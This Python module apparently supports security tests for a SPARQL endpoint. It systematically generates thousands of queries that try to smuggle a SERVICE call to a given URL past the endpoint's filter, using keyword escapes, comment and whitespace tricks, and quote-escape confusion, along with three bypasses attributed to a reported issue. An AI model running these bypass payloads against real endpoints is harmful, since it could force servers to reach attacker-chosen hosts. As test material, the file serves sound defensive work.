"""Queries that try to smuggle a SERVICE call to `url` past the SPARQL endpoint's checks.

Deterministic: `variants(url)` always yields the same list (more than 10 000
distinct texts), built as a product of independent tricks:

- how the keyword is spelled: case, `\\u`/`\\U` escapes, SILENT;
- what comes right before it: every kind of white space (SPARQL's four and
  others), a comment ended by CR, LF or CRLF, a digit, a number, punctuation,
  nothing at all;
- how the service IRI is written: plain, with `\\u` escapes, as a prefixed name,
  relative to BASE, or as a variable bound by VALUES or BIND;
- where the clause sits: the group, OPTIONAL, MINUS, UNION, a nested subquery,
  EXISTS and NOT EXISTS in a FILTER, GRAPH ?g;
- what surrounds it: nothing, or string literals whose `\\u0027`/`\\u0022`
  escapes one reader takes for a closing quote and another for content
  (so one of them sees the clause inside a string);
- the query form: SELECT, ASK, CONSTRUCT.

`BYPASSES` are the three reported in issue 11, verbatim in shape.
"""
from __future__ import annotations

import itertools
from typing import Callable

KEYWORDS = ("SERVICE", "service", "SeRvIcE", "\\u0053ERVICE", "S\\u0045RVICE", "\\U00000053ervice",
            "SERVICE SILENT", "service\\u0020SILENT")

# Put between the previous token and the keyword.
BEFORE = (" ", "\t", "\n", "\r", "\r\n", "\x0b", "\x0c", "\u00a0", "\u2028", "\u3000", "\ufeff", "",
          " #c\r", " #c\n", " #c\r\n", " #\r\n\t", "1", " 1", " 1.5e0", " .", " ;", " ,", " (", " )")


def _plain(url: str) -> tuple[str, str, str]:
    return "", f"<{url}>", ""


def _escaped(url: str) -> tuple[str, str, str]:
    return "", "<" + url.replace(":", "\\u003A", 1).replace("/", "\\u002F") + ">", ""


def _prefixed(url: str) -> tuple[str, str, str]:
    return f"PREFIX svc: <{url}/>\n", "svc:sparql", ""


def _based(url: str) -> tuple[str, str, str]:
    return f"BASE <{url}/>\n", "<sparql>", ""


def _values(url: str) -> tuple[str, str, str]:
    return "", "?svc", f"VALUES ?svc {{ <{url}/sparql> }} "


def _bind(url: str) -> tuple[str, str, str]:
    return "", "?svc", f"BIND(<{url}/sparql> AS ?svc) "


SERVICE_IRIS: tuple[Callable[[str], tuple[str, str, str]], ...] = (_plain, _escaped, _prefixed, _based, _values,
                                                                    _bind)

# Where the SERVICE clause goes: a pattern with {clause} in it.
PLACES = (
    "{clause}",
    "OPTIONAL {{ {clause} }}",
    "MINUS {{ {clause} }}",
    "{{ ?s ?p ?o }} UNION {{ {clause} }}",
    "{{ SELECT * WHERE {{ {clause} }} }}",
    "FILTER EXISTS {{ {clause} }}",
    "FILTER NOT EXISTS {{ {clause} }}",
    "GRAPH ?g {{ {clause} }}",
)

# Literal text around the clause: (before, after).
AROUND = (
    ("", ""),
    ("FILTER(?o != 'a\\u0027')", "FILTER(?o != '\\u0027b')"),
    ('FILTER(?o != "a\\u0022")', 'FILTER(?o != "\\u0022b")'),
    ("FILTER(?o != '''a\\u0027''')", "FILTER(?o != '''\\u0027b''')"),
)

FORMS = ("SELECT * WHERE {{ {body} }}", "ASK {{ {body} }}", "CONSTRUCT {{ ?s ?p ?o }} WHERE {{ {body} }}")


def _query(url: str, keyword: str, before: str, iri: Callable, place: str, around: tuple[str, str],
           form: str) -> str:
    prologue, target, binding = iri(url)
    clause = f"?s ?p ?o{before}{keyword} {target} {{ ?s ?p ?o }}"
    body = f"{binding}{around[0]} {place.format(clause=clause)} {around[1]}"
    return prologue + form.format(body=body)


def variants(url: str) -> list[str]:
    """All smuggling variants for a listener at `url` (distinct, in a fixed order)."""
    seen: dict[str, None] = {}
    for combination in itertools.product(KEYWORDS, BEFORE, SERVICE_IRIS, PLACES, AROUND, FORMS):
        keyword, before, iri, place, around, form = combination
        # Not every product is needed to cover every pair of tricks: a fixed, spread-out subset.
        if (KEYWORDS.index(keyword) + BEFORE.index(before) + SERVICE_IRIS.index(iri) + PLACES.index(place)
                + 2 * AROUND.index(around) + 3 * FORMS.index(form)) % 8:
            continue
        seen[_query(url, *combination)] = None
    return list(seen)


def bypasses(url: str) -> list[str]:
    """The three bypasses reported in issue 11."""
    return [
        f"SELECT * WHERE {{ #c\rSERVICE <{url}/sparql> {{ ?s ?p ?o }} }}",
        f"SELECT * WHERE {{ ?s ?p 1SERVICE <{url}/sparql> {{ ?s ?p ?o }} }}",
        f"SELECT * WHERE {{ ?s ?p ?o FILTER(?o != 'a\\u0027') SERVICE <{url}/sparql> {{ ?s ?p ?o }} "
        f"FILTER(?o != '\\u0027b') }}",
    ]
